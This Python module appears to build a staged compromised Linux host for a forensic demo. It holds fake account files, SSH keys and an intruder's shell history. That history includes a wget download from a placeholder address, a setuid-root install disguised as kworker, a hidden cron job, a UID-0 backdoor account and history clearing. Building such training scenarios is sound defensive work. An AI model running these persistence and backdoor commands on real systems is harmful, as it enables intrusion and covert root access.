"""Who may log in: accounts, rights, keys, and what was typed."""

from guestshell.demo.story.moments import USER_ADDED, at, night
from guestshell.demo.story.part import Part

ALICE_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBdR7QWAfZrJXEYS+hWaCrLKKYUts+zEDkLy8sTn5m0t alice@laptop"
)
_KALI_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDJ/jr9njRVGwZeTUk03KmU+dshM52YEu+LtUfORMjSXqpbWSIRDTsEzO"
    "OaLkl/iVAWMOTRJQlcknHrqDilrPfjTNQC2Ifqmd7X66wVmTtp0vfD7qiT2mTYYChi4RDXjsqaD5kVqRkKpvQwdin+QAXh"
    "J9H2ddMStHhNP0lds8OYuYfOMCFsINrS3ejkydyZCU3wcipmTgtzVIV0HWJj7I5OShzhsluPN4F4v1VPIleNSlosrJYW++"
    "mhtXbKHMF+xjHwfkqRHA6+2KuH2K3XaAJ82mMl8w59iekz9gdSc8MIBkln7X+2CQQ+9MdILZUuH4+lCpUnOyD3PfkaxwOZ"
    "jZOj root@kali"
)
_NAS_KEY = (
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBEBbgvojWfnRrHP8IpfwfV"
    "pPosfc94cmSweGc7LR0ZI9riFUNy3bV7XbRVVE3wN7hPqqVSSNvZxaO/MbaY0BRj8= backup@nas"
)
_HOST_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILlfRyM3vUNt9Oi3gLxV8jpVVhFDNVc9rWLDdCRmmcB8 root@web01"
)

_PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:101:65534::/run/sshd:/usr/sbin/nologin
alice:x:1000:1000:Alice Example,,,:/home/alice:/bin/bash
backup:x:1001:1001:Backup job:/home/backup:/bin/bash
sysupd:x:0:0::/tmp:/bin/bash
"""

_SHADOW = """root:!:20100:0:99999:7:::
daemon:*:20100:0:99999:7:::
www-data:*:20100:0:99999:7:::
sshd:!:20100::::::
alice:$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7:20100:0:99999:7:::
backup:$6$rounds=1000$abcdefgh$Ui1.notarealhash.notarealhash.notarealhash:20100:0:99999:7:::
sysupd::20526:0:99999:7:::
"""

_GROUP = """root:x:0:
daemon:x:1:
sudo:x:27:alice,backup
www-data:x:33:
alice:x:1000:
backup:x:1001:
nogroup:x:65534:
"""

_GSHADOW = """root:*::
daemon:*::
sudo:*:alice:alice,backup
www-data:*::
alice:!::
backup:!::
nogroup:!::
"""

_TYPED = {
    "01:23:10": "id",
    "01:23:14": "uname -a",
    "01:23:21": "sudo -l",
    "01:23:57": "wget http://203.0.113.77/x -O .x",
    "01:24:42": "sudo install -m 4755 .x /usr/lib/.cache/kworker",
    "01:24:58": (
        "echo '*/5 * * * * root /usr/lib/.cache/kworker -q' | sudo tee /etc/cron.d/.sysupdate"
    ),
    "01:25:11": "sudo useradd -o -u 0 -g 0 -d /tmp -s /bin/bash sysupd",
    "01:26:00": "history -c",
}
"""What the intruder typed as backup, with bash's HISTTIMEFORMAT set."""

_ALICE = (1000, 1000)
_BACKUP = (1001, 1001)

PART = Part(
    texts={
        "/etc/passwd": _PASSWD,
        "/etc/shadow": _SHADOW,
        "/etc/group": _GROUP,
        "/etc/gshadow": _GSHADOW,
        "/etc/.pwd.lock": "",
        "/etc/sudoers": (
            "Defaults\tenv_reset\nroot\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n"
            "@includedir /etc/sudoers.d\n"
        ),
        "/etc/sudoers.d/90-backup": "backup ALL=(root) NOPASSWD: /usr/bin/install, /usr/bin/tee\n",
        "/etc/ssh/sshd_config": (
            "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\nX11Forwarding no\n"
        ),
        "/etc/ssh/ssh_host_ed25519_key.pub": f"{_HOST_KEY}\n",
        "/root/.bash_history": "apt update\napt upgrade\nsystemctl restart nginx\n",
        "/root/.ssh/authorized_keys": f"{ALICE_KEY}\n{_KALI_KEY}\n",
        "/home/alice/.bash_history": "ls\nvim notes.txt\nssh web02\nexit\n",
        "/home/alice/.bashrc": "alias ll='ls -l'\n",
        "/home/alice/.psql_history": "select count(*) from sessions;\n",
        "/home/alice/.zsh_history": (
            ": 1773390000:0;df -h\n: 1773390020:0;du -sh /var/log/huge.log\n"
        ),
        "/home/alice/notes.txt": "Ask Bob about the disk that grows at night.\n",
        "/home/backup/.bash_history": "".join(
            f"#{night(clock)}\n{line}\n" for clock, line in _TYPED.items()
        ),
        "/home/backup/.ssh/authorized_keys": (
            f'restrict,command="/usr/bin/rsync --server",from="192.0.2.0/24" {_NAS_KEY}\n'
        ),
    },
    links={"/tmp/.bash_history": "/dev/null"},
    modes={
        "/etc/shadow": 0o640,
        "/etc/gshadow": 0o640,
        "/etc/.pwd.lock": 0o600,
        "/etc/sudoers": 0o440,
        "/etc/sudoers.d/90-backup": 0o440,
        "/root": 0o700,
        "/root/.ssh": 0o700,
        "/home/backup/.ssh": 0o700,
    },
    owners={
        "/home/alice": _ALICE,
        "/home/alice/.bash_history": _ALICE,
        "/home/alice/.bashrc": _ALICE,
        "/home/alice/.psql_history": _ALICE,
        "/home/alice/.zsh_history": _ALICE,
        "/home/alice/notes.txt": _ALICE,
        "/home/backup": _BACKUP,
        "/home/backup/.bash_history": _BACKUP,
        "/home/backup/.ssh": _BACKUP,
        "/home/backup/.ssh/authorized_keys": _BACKUP,
    },
    times={
        "/etc/.pwd.lock": USER_ADDED,
        "/etc/passwd": USER_ADDED,
        "/etc/shadow": USER_ADDED,
        "/root/.bash_history": at("2026-03-02 06:12:50"),
        "/root/.ssh/authorized_keys": night("01:42:20"),
        "/home/alice/.bash_history": at("2026-03-13 15:47:12"),
        "/home/alice/.psql_history": at("2026-03-13 08:40:00"),
        "/home/alice/.zsh_history": at("2026-03-13 08:20:20"),
        "/home/alice/notes.txt": at("2026-03-13 15:46:30"),
        "/home/backup/.bash_history": night("01:26:07"),
        "/tmp/.bash_history": night("01:41:34"),
    },
)
